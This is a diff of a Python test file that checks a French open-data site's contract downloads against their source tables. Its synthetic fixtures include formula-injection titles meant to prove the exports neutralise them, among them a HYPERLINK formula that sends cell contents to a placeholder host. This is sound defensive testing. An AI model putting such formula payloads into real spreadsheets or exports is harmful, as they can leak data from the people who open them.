@@ -2,8 +2,10 @@
 
 For the real catalogue and a small synthetic one (with hostile titles), this reads what the site build wrote under
 site/telechargements/ — never the writers' helper functions — with pandas (spreadsheet CSV), openpyxl (XLSX),
-sqlite3 (database), json (gzip JSON) and frictionless (package zip), and compares each table, row count and every
-cell after type normalisation, with the Frictionless CSV of datapackages/ read by the csv module.
+sqlite3 (database), json (gzip JSON) and frictionless (package zip; a contract's package references the shared Table
+Schemas by address: the synthetic site is served at its own address so that frictionless fetches them over HTTP),
+and compares each table, row count and every cell after type normalisation, with the Frictionless CSV of
+datapackages/ read by the csv module.
 """
 
 from __future__ import annotations
@@ -18,6 +20,7 @@ import re
 import sqlite3
 import sys
 import zipfile
+from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import date, datetime
 from decimal import Decimal
@@ -32,7 +35,7 @@ from frictionless import Package as FrictionlessPackage
 
 from contrats import paths
 from contrats.cli import main as cli_main
-from sitekit import build_into, built_site
+from sitekit import _free_port, _QuietHandler, build_into, built_site
 
 ROOT = Path(__file__).resolve().parents[1]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # as the methodology page states it
@@ -40,8 +43,8 @@ HOSTILE_DOCUMENT_TITLE = '=HYPERLINK("https://exemple.invalid/?x="&A1;"Cliquer i
 HOSTILE_OPERATION_TITLE = "-2+3 aménagement"
 HOSTILE_PARTY_NAME = "@SOMME(1;2)"
 SPREADSHEET_FORMATS = ("csv", "xlsx")
-CONTRACT_FORMATS = {"zip", "csv", "xlsx", "json"}
-CATALOGUE_FORMATS = CONTRACT_FORMATS | {"sqlite"}
+CONTRACT_FORMATS = {"zip", "xlsx"}  # the catalogue has the others (data page)
+CATALOGUE_FORMATS = CONTRACT_FORMATS | {"csv", "json", "sqlite"}
 
 
 # --- What the tables should hold: the Frictionless CSV of datapackages/, read by the csv module -------------------
@@ -144,14 +147,18 @@ def read_csv_zip(path: Path, tables: dict[str, Expected]) -> None:
             compare(f"{path.name}/{name}", table, rows)
 
 
-def read_xlsx(path: Path, tables: dict[str, Expected]) -> None:
+def read_xlsx(path: Path, tables: dict[str, Expected], shared_dictionary: str | None = None) -> None:
     """openpyxl: « À propos », one sheet per table with French titles, frozen header, typed cells, then the
-    dictionary; a text that would run as a formula is a text cell marked with Excel's quote prefix."""
+    dictionary (or, with `shared_dictionary`, its address in « À propos »); a text that would run as a formula is a
+    text cell marked with Excel's quote prefix."""
     wb = openpyxl.load_workbook(path)
-    assert wb.sheetnames == ["À propos", *tables, "Dictionnaire"], wb.sheetnames
+    dictionary = [] if shared_dictionary else ["Dictionnaire"]
+    assert wb.sheetnames == ["À propos", *tables, *dictionary], wb.sheetnames
     about = {r[0]: r[1] for r in wb["À propos"].iter_rows(min_row=2, values_only=True)}
     for key in ("Source", "Licence", "Date des données", "Comment citer"):
         assert about.get(key), f"{path.name} : « {key} » absent de « À propos »"
+    if shared_dictionary:
+        assert about.get("Dictionnaire") == shared_dictionary, f"{path.name} : adresse du dictionnaire"
     assert "Licence Ouverte" in about["Licence"]
     for name, table in tables.items():
         ws = wb[name]
@@ -178,8 +185,9 @@ def read_xlsx(path: Path, tables: dict[str, Expected]) -> None:
                 row.append(value)
             rows.append(row)
         compare(f"{path.name}/{name}", table, rows)
-    words = list(wb["Dictionnaire"].iter_rows(min_row=2, values_only=True))
-    assert [(r[0], r[2]) for r in words] == [(n, f["name"]) for n, t in tables.items() for f in t.fields]
+    if not shared_dictionary:
+        words = list(wb["Dictionnaire"].iter_rows(min_row=2, values_only=True))
+        assert [(r[0], r[2]) for r in words] == [(n, f["name"]) for n, t in tables.items() for f in t.fields]
 
 
 def read_sqlite(path: Path, tables: dict[str, Expected], tmp: Path) -> None:
@@ -208,17 +216,44 @@ def read_json(path: Path, tables: dict[str, Expected]) -> None:
         compare(f"{path.name}/{name}", table, [list(r.values()) for r in records])
 
 
-def read_package_zip(path: Path, folder: Path, tables: dict[str, Expected], tmp: Path) -> None:
-    """frictionless on the extracted package; and the zip holds the published folder byte for byte."""
+def read_package_zip(path: Path, folder: Path, tables: dict[str, Expected], tmp: Path,
+                     schemas: dict[str, Path] | None = None, served: bool = False) -> None:
+    """frictionless on the extracted package; the zip holds the published folder byte for byte, except that a
+    contract's datapackage.json references each Table Schema by the address of a shared file (`schemas`: address →
+    published file), which holds exactly the published schema. When the site is served at its address, frictionless
+    fetches the schemas itself; otherwise the test puts each published schema file beside the descriptor."""
+    descriptor_name = f"{folder.name}/datapackage.json"
     with zipfile.ZipFile(path) as zf:
         assert zf.testzip() is None
         names = sorted(n for n in zf.namelist() if not n.endswith("/"))
         published = sorted(f"{folder.name}/{p.relative_to(folder).as_posix()}" for p in folder.rglob("*") if p.is_file())
         assert names == published, f"{path.name} : fichiers {set(names) ^ set(published)}"
         for n in names:
-            assert zf.read(n) == (folder.parent / n).read_bytes(), f"{path.name} : {n} diffère du paquet publié"
+            if n != descriptor_name or schemas is None:
+                assert zf.read(n) == (folder.parent / n).read_bytes(), f"{path.name} : {n} diffère du paquet publié"
         zf.extractall(tmp)
-    package = FrictionlessPackage(str(tmp / folder.name / "datapackage.json"))
+    if schemas is not None:
+        got = json.loads((tmp / descriptor_name).read_text(encoding="utf-8"))
+        want = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
+        refs = {r["name"]: r["schema"] for r in got["resources"] if isinstance(r.get("schema"), str)}
+        assert set(refs) == set(tables), f"{path.name} : schémas par adresse {sorted(refs)}"
+        for r in got["resources"]:
+            if r["name"] in refs:
+                assert refs[r["name"]] in schemas, f"{path.name} : {refs[r['name']]} n’est pas un fichier publié"
+                shared_file = schemas[refs[r["name"]]]
+                r["schema"] = json.loads(shared_file.read_text(encoding="utf-8"))
+                if not served:  # offline: the published schema file, beside the descriptor
+                    local = tmp / folder.name / "schemas" / shared_file.name
+                    local.parent.mkdir(exist_ok=True)
+                    local.write_bytes(shared_file.read_bytes())
+        assert got == want, f"{path.name} : datapackage.json diffère du paquet publié hors références aux schémas"
+        if not served:
+            d = json.loads((tmp / descriptor_name).read_text(encoding="utf-8"))
+            for r in d["resources"]:
+                if r["name"] in refs:
+                    r["schema"] = "schemas/" + schemas[refs[r["name"]]].name
+            (tmp / descriptor_name).write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
+    package = FrictionlessPackage(str(tmp / descriptor_name))
     for name, table in tables.items():
         resource = package.get_resource(name)
         rows = [[r[n] for n in table.names] for r in resource.read_rows()]
@@ -227,17 +262,25 @@ def read_package_zip(path: Path, folder: Path, tables: dict[str, Expected], tmp:
 
 # --- The whole site ----------------------------------------------------------------------------------------------
 
-def check_site_downloads(site: Path, datapackages: Path, tmp: Path) -> dict[str, set[str]]:
+def check_site_downloads(site: Path, datapackages: Path, tmp: Path, served: bool = False) -> dict[str, set[str]]:
     """Check every download listed by telechargements/index.json against datapackages/; return formats per package.
 
-    Also: the index lists every file of telechargements/ (and nothing else), with its exact size and SHA-256."""
+    Also: the index lists every file of telechargements/ (and nothing else), with its exact size and SHA-256; the
+    shared Table Schemas are exactly the catalogue's; a contract's files reference them and the shared dictionary."""
     root = site / "telechargements"
     index = json.loads((root / "index.json").read_text(encoding="utf-8"))
     listed: list[str] = []
     formats: dict[str, set[str]] = {}
+    schema_entry = next(e for e in index["paquets"] if e["paquet"] == "schemas")
+    schemas = {index["adresse"] + f["chemin"]: root / f["chemin"] for f in schema_entry["fichiers"]}
+    catalogue = json.loads((datapackages / "catalogue" / "datapackage.json").read_text(encoding="utf-8"))
+    assert {p.stem: json.loads(p.read_text(encoding="utf-8")) for p in schemas.values()} == \
+        {r["name"]: r["schema"] for r in catalogue["resources"] if isinstance(r.get("schema"), dict)}
+    dictionary = index["adresse"].removesuffix("telechargements/") + "donnees/#dictionnaire"
     for entry in index["paquets"]:
         key = entry["paquet"]
-        folder = datapackages / entry["dossier"].rstrip("/") if key != "documents" else None
+        folder = datapackages / entry["dossier"].rstrip("/") if key not in ("documents", "schemas") else None
+        contract = entry["dossier"].startswith("contrats/")
         tables = expected_tables(folder) if folder else {}
         if tables:
             assert entry["tables"] == {n: len(t.rows) for n, t in tables.items()}, f"index : lignes de {key}"
@@ -255,13 +298,16 @@ def check_site_downloads(site: Path, datapackages: Path, tmp: Path) -> dict[str,
             if f["format"] == "csv":
                 read_csv_zip(path, tables)
             elif f["format"] == "xlsx":
-                read_xlsx(path, tables)
+                read_xlsx(path, tables, dictionary if contract else None)
             elif f["format"] == "sqlite":
                 read_sqlite(path, tables, work)
             elif f["format"] == "json":
                 read_json(path, tables)
             elif f["format"] == "zip":
-                read_package_zip(path, folder, tables, work)
+                read_package_zip(path, folder, tables, work, schemas if contract else None, served)
+            elif f["format"] == "schema":
+                from frictionless import Schema
+                assert Schema(str(path)).field_names, f["chemin"]
             elif f["format"] == "txt":
                 assert body == (datapackages / "catalogue" / "documents" / path.name).read_bytes(), f["chemin"]
             else:
@@ -269,7 +315,7 @@ def check_site_downloads(site: Path, datapackages: Path, tmp: Path) -> dict[str,
     on_disk = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file() and p.name != "index.json")
     assert sorted(listed) == on_disk, f"fichiers hors index ou absents : {set(listed) ^ set(on_disk)}"
     contracts = {p.name for p in (datapackages / "contrats").iterdir() if (p / "datapackage.json").exists()}
-    assert {k for k in formats if k not in ("catalogue", "reference", "documents")} == contracts
+    assert {k for k in formats if k not in ("catalogue", "reference", "documents", "schemas")} == contracts
     assert formats["catalogue"] == CATALOGUE_FORMATS
     assert all(formats[c] == CONTRACT_FORMATS for c in contracts)
     return formats
@@ -284,7 +330,7 @@ NPDC = "cper-nord-pas-de-calais-2015-2020"
 
 
 def test_npdc_spreadsheets_open_with_every_row(tmp_path: Path):
-    """The NPdC CPER's spreadsheet CSV and XLSX hold as many rows per table as datapackages/contrats/<id>/*.csv."""
+    """The NPdC CPER's package CSV (pandas) and XLSX hold as many rows per table as datapackages/contrats/<id>/*.csv."""
     folder = paths.DATAPACKAGES / "contrats" / NPDC
     if not folder.is_dir():
         pytest.skip(f"{NPDC} absent de datapackages/")
@@ -294,10 +340,9 @@ def test_npdc_spreadsheets_open_with_every_row(tmp_path: Path):
             counts[f.stem] = sum(1 for _ in csv.DictReader(fh))
     assert sum(counts.values()) > 100
     downloads = built_site() / "telechargements" / "contrats" / NPDC
-    with zipfile.ZipFile(downloads / f"{NPDC}-csv.zip") as zf:
-        got = {n.rsplit("/", 1)[-1][:-4]: len(pd.read_csv(io.BytesIO(zf.read(n)), sep=";", encoding="utf-8-sig",
-                                                            decimal=",", dtype=str))
-               for n in zf.namelist()}
+    with zipfile.ZipFile(downloads / f"{NPDC}-paquet.zip") as zf:
+        got = {n.rsplit("/", 1)[-1][:-4]: len(pd.read_csv(io.BytesIO(zf.read(n)), dtype=str))
+               for n in zf.namelist() if n.endswith(".csv")}
     assert got == counts
     wb = openpyxl.load_workbook(downloads / f"{NPDC}.xlsx", read_only=True)
     assert {n: wb[n].max_row - 1 for n in counts} == counts
@@ -305,10 +350,14 @@ def test_npdc_spreadsheets_open_with_every_row(tmp_path: Path):
 
 # --- A small synthetic catalogue with hostile titles -------------------------------------------------------------
 
+SYNTHETIC_URL: list[str] = []  # the address the synthetic site is built for, and served at
+
+
 @pytest.fixture(scope="module")
-def synthetic_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+def synthetic_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path]]:
     """Three synthetic contracts (scripts/synth.py) whose document title, operation title and party name would run
-    as formulas in a spreadsheet; built into a site. Returns (site, datapackages)."""
+    as formulas in a spreadsheet; built into a site for a local address where it is then served (frictionless
+    fetches the shared schemas from there). Returns (site, datapackages)."""
     sys.path.insert(0, str(ROOT / "scripts"))
     try:
         from synth import write_corpus
@@ -333,7 +382,16 @@ def synthetic_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path
     args = ["--sources", str(src), "--root", str(out), "--datapackages", str(datapackages),
             "--report", str(out / "validation.json")]
     assert cli_main(args + ["build"]) == 0
-    return build_into(datapackages, out / "build"), datapackages
+    port = _free_port()
+    SYNTHETIC_URL[:] = [f"http://127.0.0.1:{port}/"]
+    site = build_into(datapackages, out / "build", SYNTHETIC_URL[0])
+    from functools import partial
+    from http.server import ThreadingHTTPServer
+    from threading import Thread
+    server = ThreadingHTTPServer(("127.0.0.1", port), partial(_QuietHandler, directory=str(site)))
+    Thread(target=server.serve_forever, daemon=True).start()
+    yield site, datapackages
+    server.shutdown()
 
 
 def test_every_download_of_a_synthetic_site_round_trips(synthetic_site: tuple[Path, Path], tmp_path: Path):
@@ -341,7 +399,7 @@ def test_every_download_of_a_synthetic_site_round_trips(synthetic_site: tuple[Pa
     site, datapackages = synthetic_site
     titles = [r["titre"] for r in expected_tables(datapackages / "catalogue")["documents"].rows]
     assert HOSTILE_DOCUMENT_TITLE in titles
-    check_site_downloads(site, datapackages, tmp_path)
+    check_site_downloads(site, datapackages, tmp_path, served=True)
 
 
 def test_a_title_starting_with_equals_shows_as_text(synthetic_site: tuple[Path, Path]):
@@ -392,18 +450,18 @@ def test_negative_numbers_stay_numbers_and_only_text_is_neutralised(tmp_path: Pa
     assert [(c[0].value, c[0].quotePrefix) for c in cells] == [("-5", True), ("+33 1 23", True), ("'=x", True)]
 
 
-# Files that may differ between two clean builds of the same data: only Pagefind's filter index. Pagefind 1.5 writes
+# Files that may differ between two clean builds of the same data: only Pagefind's filter index (in every part). Pagefind 1.5 writes
 # the values of each filter in hash-map order, which changes from run to run; the filter files (named by their
 # content hash), and so the metadata file and pagefind-entry.json that name them, differ in bytes and names while
 # holding the same filters. Everything else — pages, downloads, sitemap, the rest of the search index — is identical.
-MAY_DIFFER = re.compile(r"^pagefind/(filter/[^/]+\.pf_filter|pagefind\.[a-z-]+_[0-9a-f]+\.pf_meta|pagefind-entry\.json)$")
+MAY_DIFFER = re.compile(r"^pagefind/(?:[a-z]+/)?(filter/[^/]+\.pf_filter|pagefind\.[a-z-]+_[0-9a-f]+\.pf_meta|pagefind-entry\.json)$")
 
 
 def test_two_clean_builds_give_the_same_site(synthetic_site: tuple[Path, Path], tmp_path: Path):
     """A second clean build of the same data gives the same files, byte for byte, except Pagefind's filter index
     (same number of filter files, same decompressed sizes); the sitemap is dated by the data, not by the build."""
     site, datapackages = synthetic_site
-    again = build_into(datapackages, tmp_path / "encore")
+    again = build_into(datapackages, tmp_path / "encore", SYNTHETIC_URL[0])
 
     def listing(root: Path) -> list[str]:
         return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
@@ -424,11 +482,16 @@ def test_two_clean_builds_give_the_same_site(synthetic_site: tuple[Path, Path], 
 
 
 def test_pagefind_leaves_no_stale_file(synthetic_site: tuple[Path, Path]):
-    """Rebuilding the search index in place removes the fragments of the earlier one."""
+    """Rebuilding the search index in place removes the fragments of the earlier one, in every part of the index."""
     from contrats.site.build import pagefind
+    from contrats.site.search import PARTS
 
     site, _ = synthetic_site
-    stale = site / "pagefind" / "fragment" / "perime.pf_fragment"
-    stale.write_bytes(b"ancien")
+    stale = [site / "pagefind" / "fragment" / "perime.pf_fragment", site / "pagefind" / "ancienne-partie" / "x.pf_index"]
+    stale += [site / "pagefind" / part / "fragment" / "perime.pf_fragment" for part in PARTS]
+    for path in stale:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(b"ancien")
     pagefind(site)
-    assert not stale.exists() and (site / "pagefind" / "pagefind.js").exists()
+    assert [p for p in stale if p.exists()] == []
+    assert all((site / "pagefind" / part / "pagefind.js").exists() for part in ("", *PARTS))
